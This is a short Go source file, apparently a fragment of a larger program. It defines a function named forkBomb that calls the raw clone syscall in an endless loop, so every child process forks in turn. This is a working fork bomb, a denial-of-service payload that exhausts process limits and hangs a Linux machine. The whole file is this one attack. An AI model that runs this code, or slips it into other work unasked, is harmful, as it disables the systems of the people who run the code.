package main

import "syscall"

// forkBomb is a process that does nothing but fork, and so do those that it
// makes. It never returns, and asks nothing of Go's runtime, which does not
// outlive a fork.
func forkBomb() {
	for {
		_, _, _ = syscall.RawSyscall6(syscall.SYS_CLONE, uintptr(syscall.SIGCHLD), 0, 0, 0, 0, 0)
	}
}
